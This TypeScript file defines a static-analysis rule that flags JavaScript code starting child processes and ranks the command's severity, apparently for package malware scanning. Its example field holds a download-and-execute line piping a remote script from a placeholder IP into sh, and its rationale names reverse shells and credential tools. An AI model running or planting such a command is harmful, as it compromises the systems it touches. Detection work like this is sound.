import { analyzeCommand } from '../../shell/command.js';
import type { JsRule } from '../engine.js';
import type { Node } from '../parse.js';
import { calleeName, commandOf, js, PROCESS_EXEC, preview } from './helpers.js';

/** Flags starting processes; the command line, when known, is analysed like a shell script. */
export const processExec: JsRule = {
  meta: {
    ...js,
    id: 'JS-001',
    name: 'process-execution',
    category: 'execution',
    severity: 'low',
    confidence: 'high',
    description:
      'Code starts a child process (child_process exec/spawn/execFile/fork, Bun.spawn, Deno.Command), also through `.call`/`.apply`, `util.promisify` and `bind`.',
    rationale:
      'Running other programs is how packages download and start payloads, open reverse shells and run credential tools; the command itself says which.',
    falsePositives: 'Build tools, CLIs and git/compiler wrappers spawn processes by design.',
    example: "require('child_process').exec('curl -s http://192.0.2.1/x | sh')",
    references: ['https://nodejs.org/api/child_process.html'],
  },
  create(ctx) {
    const check = (node: Node) => {
      const name = calleeName(ctx, node);
      if (!name || !PROCESS_EXEC.has(name)) return;
      ctx.facts.capabilities.add('process');
      const full = commandOf(ctx, name, node);
      if (full) ctx.facts.runsFiles.add(full);
      const techniques = full ? analyzeCommand(full) : [];
      const worst = techniques.sort((a, b) => rankSeverity(b.severity) - rankSeverity(a.severity))[0];
      ctx.report({
        node,
        message: full
          ? `Runs \`${preview(full)}\`${worst ? `, which ${worst.description}` : ''}.`
          : `Runs a process whose command is computed at run time (${name}).`,
        // A computed command is what every build tool does; the flow rules and the verdict's
        // combinations decide whether it matters.
        severity: worst ? worst.severity : 'low',
        category: worst?.category,
        evidence: { callee: name, command: full, techniques: techniques.map((t) => t.id) },
      });
    };
    return { CallExpression: check, NewExpression: check };
  },
};

function rankSeverity(s: string): number {
  return ['info', 'low', 'medium', 'high', 'critical'].indexOf(s);
}
